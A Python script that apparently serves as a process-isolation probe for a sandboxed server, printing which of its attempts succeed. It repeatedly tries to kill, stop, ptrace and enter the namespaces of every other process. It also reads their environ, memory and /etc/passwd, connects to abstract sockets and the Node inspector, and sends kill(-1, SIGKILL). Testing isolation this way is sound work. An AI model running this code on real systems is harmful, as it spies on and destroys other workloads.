"""A server that is right, and signals, stops, slows, inspects and traces every other process that it sees, and floods it with calls."""

import ctypes
import os
import resource
import signal
import socket
import threading

PTRACE_ATTACH = 16
PIDFD_GETFD = 438
INSPECTOR = ("127.0.0.1", 9229)
READABLE = ("environ", "mem", "maps", "fd/0", "root/etc/passwd", "cwd/package.json")
WRITABLE = ("oom_score_adj", "mem", "fd/1", "comm")
NAMESPACES = ("mnt", "pid", "user")

libc = ctypes.CDLL(None, use_errno=True)
refused = set()


def others():
    own = {1, os.getpid()}
    return [pid for name in os.listdir("/proc") if name.isdigit() and (pid := int(name)) not in own]


def attempt(what, action, *arguments):
    try:
        action(*arguments)
        print("could", what, flush=True)
    except (ProcessLookupError, FileNotFoundError):
        pass  # it has ended
    except OSError as error:
        if what not in refused:
            print(f"refused: {what}: {error.strerror}", flush=True)
        refused.add(what)


def call(function, *arguments):
    if function(*arguments) < 0:
        error = ctypes.get_errno()
        raise OSError(error, os.strerror(error))


def open_and_close(path, mode):
    open(path, mode).close()


def by_descriptor(pid, action):
    descriptor = os.pidfd_open(pid)
    try:
        action(descriptor)
    finally:
        os.close(descriptor)


def enter(path):
    descriptor = os.open(path, os.O_RDONLY)
    try:
        os.setns(descriptor)
    finally:
        os.close(descriptor)


def attack(pid):
    for number in (signal.SIGUSR1, signal.SIGSTOP, signal.SIGKILL):
        attempt(f"send {number.name}", os.kill, pid, number)
    attempt("send by descriptor", by_descriptor, pid, lambda it: signal.pidfd_send_signal(it, signal.SIGKILL))
    attempt("take a descriptor", by_descriptor, pid, lambda it: call(libc.syscall, PIDFD_GETFD, it, 0, 0))
    for file in READABLE:
        attempt(f"read {file}", open_and_close, f"/proc/{pid}/{file}", "rb")
    for file in WRITABLE:
        attempt(f"write {file}", open_and_close, f"/proc/{pid}/{file}", "wb")
    for name in NAMESPACES:
        attempt(f"enter {name}", enter, f"/proc/{pid}/ns/{name}")
    attempt("trace", call, libc.ptrace, PTRACE_ATTACH, pid, None, None)
    attempt("limit", resource.prlimit, pid, resource.RLIMIT_NOFILE, (0, 0))
    attempt("move", os.sched_setaffinity, pid, {0})
    attempt("slow down", os.setpriority, os.PRIO_PROCESS, pid, 19)


def knock():
    """At each Unix socket with an abstract name, to which all in its network namespace can connect, and at Node's inspector."""
    for line in open("/proc/net/unix"):
        name = line.split()[-1]
        if name.startswith("@"):
            with socket.socket(socket.AF_UNIX) as client:
                attempt(f"connect to {name}", client.connect, "\0" + name[1:])
    attempt("connect to an inspector", lambda: socket.create_connection(INSPECTOR, 1).close())


def kill_all():
    try:
        os.kill(-1, signal.SIGKILL)  # succeeds even if it may signal none of them
    except ProcessLookupError:
        pass


def disturb():
    for pid in others():
        attack(pid)
    knock()
    kill_all()


def disturb_for_ever():
    while True:
        disturb()


def flood():
    """Calls and packets for whoever watches: to itself, of the greatest length."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as mine:
        mine.bind(("127.0.0.1", 0))
        for _ in range(200):
            mine.sendto(bytes(65507), mine.getsockname())
    for _ in range(50):
        with socket.socket() as client:
            client.connect_ex(INSPECTOR)
    print("flooded", flush=True)


# Once before anybody can be served, so that all of it has been tried.
disturb()
flood()
threading.Thread(target=disturb_for_ever, daemon=True).start()
server = socket.create_server((os.environ["HOST"], int(os.environ["PORT"])), backlog=128)
while True:
    connection, _ = server.accept()
    with connection:
        try:
            connection.sendall(os.environ["GREETING"].encode())
        except OSError:
            pass
